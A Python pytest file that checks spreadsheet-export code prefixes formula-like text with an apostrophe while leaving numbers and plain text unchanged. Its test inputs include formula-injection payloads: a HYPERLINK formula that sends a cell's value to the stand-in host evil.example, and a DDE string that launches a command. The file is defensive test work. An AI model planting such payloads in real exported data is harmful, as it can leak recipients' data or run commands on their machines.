"""Text a spreadsheet would run as a formula gets a leading ' on export; numbers,
negative ones too, stay as they are."""

import pytest

from portal.formatting.spreadsheets import is_formula, neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_a_formula_is_written_as_text(text):
    assert is_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-12", "-12.5", "+3", "1e5", "Sapporo", "a=b", "", -12, None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert not is_formula(value)
    assert neutralise(value) == value
